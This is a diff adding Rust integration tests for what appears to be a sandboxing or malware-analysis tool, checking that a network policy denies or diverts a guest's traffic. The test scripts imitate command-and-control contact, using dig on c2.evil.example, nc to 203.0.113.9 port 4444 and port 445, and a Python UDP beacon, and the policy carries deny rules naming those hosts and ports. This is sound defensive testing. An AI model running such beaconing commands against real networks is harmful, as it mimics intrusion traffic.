@@ -3,9 +3,9 @@
 use std::collections::BTreeSet;
 use std::process::Command;
 
-use lava_event::{Event, Kind, Sha256};
+use lava_event::{Action, Event, Kind, Sha256};
 
-use crate::common::{Ran, root, run};
+use crate::common::{Ran, decisions, play, root, run};
 
 /// Runs tshark over the session's capture.
 fn tshark(ran: &Ran, arguments: &[&str]) -> String {
@@ -117,4 +117,106 @@ fn ordinary_programs_find_a_network() {
         .collect();
     assert_eq!(ja3, ours, "fingerprints, as Wireshark makes them");
     assert_eq!(ran.code, Some(3));
+}
+
+/// What was decided about flows to a port, and about names: program, action, rule, outcome.
+fn decided(ran: &Ran, wanted: impl Fn(&Kind) -> bool) -> BTreeSet<(String, Action, String, String)> {
+    let about = ran.events.iter().filter(|event| wanted(&event.kind));
+    about
+        .flat_map(|event| {
+            let found = decisions(ran, |other| other.seq == event.seq);
+            assert_eq!(found.len(), 1, "asked once, answered once: {event:?}");
+            found.into_iter().map(|(action, rule, outcome)| (program(event), action, rule.unwrap_or_default(), outcome))
+        })
+        .collect()
+}
+
+fn flow_to(port: u16) -> impl Fn(&Kind) -> bool {
+    move |kind| matches!(kind, Kind::NetFlow { destination, .. } if destination.port == port)
+}
+
+fn asks_for(name: &str) -> impl Fn(&Kind) -> bool {
+    move |kind| matches!(kind, Kind::NetDns { question, .. } if *question == name.into())
+}
+
+#[test]
+fn what_the_policy_refuses_is_refused() {
+    let policy = "policy: mine
+default: allow
+rules:
+  - name: names
+    when: trace.tainted && event.kind == 'net.dns' && event.question.endsWith('.evil.example')
+    action: deny
+  - name: flows
+    when: trace.tainted && event.kind == 'net.flow' && event.destination.port in [4444, 445]
+    action: deny
+";
+    let script = r#"
+        echo "NET name $(dig +time=20 c2.evil.example | grep -o NXDOMAIN)"
+        echo "NET web $(curl -s --max-time 60 http://good.example/ | head -c 9)"
+        echo "NET c2 $(timeout 60 nc -v 203.0.113.9 4444 2>&1 </dev/null | grep -o refused)"
+        echo "NET share $(timeout 60 nc -v 10.77.0.3 445 2>&1 </dev/null | grep -o refused)"
+        python3 - <<'PY'
+import socket
+beacon = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+beacon.connect(("203.0.113.9", 4444))
+beacon.settimeout(60)
+beacon.send(b"one")
+try:
+    beacon.recv(1)
+except ConnectionRefusedError:
+    print("NET beacon refused")
+PY
+        echo NET end"#;
+    let ran = play(script, policy, &["--net", "simulated", "--timeout", "600"]);
+    for line in ["name NXDOMAIN", "web <!DOCTYPE", "c2 refused", "share refused", "beacon refused", "end"] {
+        assert!(ran.console.contains(&format!("NET {line}")), "{line}\n{}\n{}", ran.console, ran.stderr);
+    }
+    let row = |program: &str, action, rule: &str, outcome: &str| (program.into(), action, rule.into(), outcome.into());
+    let reset = "refused: the guest got a reset";
+    let nobody = "refused: the guest was told that nobody is there";
+    assert_eq!(
+        decided(&ran, asks_for("c2.evil.example")),
+        [row("dig", Action::Deny, "names", "the guest was told that the name does not exist")].into()
+    );
+    assert_eq!(
+        decided(&ran, flow_to(4444)),
+        [row("nc.openbsd", Action::Deny, "flows", reset), row("python3.11", Action::Deny, "flows", nobody)].into()
+    );
+    assert_eq!(decided(&ran, flow_to(445)), [row("nc.openbsd", Action::Deny, "flows", reset)].into());
+    assert_eq!(decided(&ran, flow_to(80)), [row("curl", Action::Allow, "", "the simulated network took it")].into());
+    let spoke = |event: &Event| matches!(&event.kind, Kind::NetStream { destination, .. } if destination.port != 80);
+    assert!(!ran.events.iter().any(spoke), "nobody spoke to whom the policy refused");
+}
+
+#[test]
+fn what_the_policy_diverts_meets_the_simulated_network_alone() {
+    let policy = "policy: mine
+default: allow
+rules:
+  - name: name
+    when: event.kind == 'net.dns' && event.question == 'c2.example'
+    action: remediate
+  - name: web
+    when: trace.tainted && event.kind == 'net.flow' && event.destination.port == 80
+    action: remediate
+";
+    let script = r#"
+        echo "NET c2 $(curl -s --max-time 60 http://c2.example/ | head -c 9)"
+        echo "NET other $(curl -s --max-time 60 http://other.example/ || echo none)"
+        echo "NET port $(timeout 60 nc -v 203.0.113.9 81 2>&1 </dev/null | grep -o refused)"
+        echo NET end"#;
+    let ran = play(script, policy, &["--net", "refused", "--timeout", "600"]);
+    for line in ["c2 <!DOCTYPE", "other none", "port refused", "end"] {
+        assert!(ran.console.contains(&format!("NET {line}")), "{line}\n{}\n{}", ran.console, ran.stderr);
+    }
+    let actions = |found: BTreeSet<(String, Action, String, String)>| -> BTreeSet<Action> {
+        found.into_iter().map(|(_, action, ..)| action).collect()
+    };
+    assert_eq!(actions(decided(&ran, asks_for("c2.example"))), [Action::Remediate].into());
+    assert_eq!(actions(decided(&ran, asks_for("other.example"))), [Action::Allow].into());
+    assert_eq!(actions(decided(&ran, flow_to(80))), [Action::Remediate].into());
+    assert_eq!(actions(decided(&ran, flow_to(81))), [Action::Allow].into());
+    let asked = |event: &Event| matches!(&event.kind, Kind::NetHttp { host, .. } if *host == "c2.example".into());
+    assert!(ran.events.iter().any(asked), "what the diverted said is told");
 }
